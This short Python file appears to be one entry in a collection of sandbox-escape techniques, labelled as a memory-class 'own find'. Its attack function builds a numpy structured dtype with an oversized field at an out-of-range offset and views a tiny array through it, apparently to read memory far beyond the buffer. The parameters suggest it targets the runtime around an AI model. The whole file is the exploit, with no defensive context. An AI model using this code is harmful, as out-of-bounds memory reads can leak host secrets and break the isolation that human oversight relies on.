"""Class: memory. Source: own find. Escape: the same, by a view of an array that is there."""

import numpy as np


def attack(model, tokenizer, address):
    window = {"names": ["w"], "formats": ["V2147483600"], "offsets": [64], "itemsize": 8}
    array = np.zeros(8, "u1").view(window)
    return len(array["w"][0].tobytes())
